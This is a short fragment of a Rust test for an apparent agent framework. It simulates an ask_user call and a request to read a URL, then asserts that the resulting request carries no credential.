    vaulted.desk.calls("ask_user", json!({"question": "Which of the contacts?"}));
    vaulted.talk("ask_user", &format!("Read {URL}")).await;
    assert_eq!(vaulted.desk.engine.requests().open().unwrap()[0].request.credential, None);
}
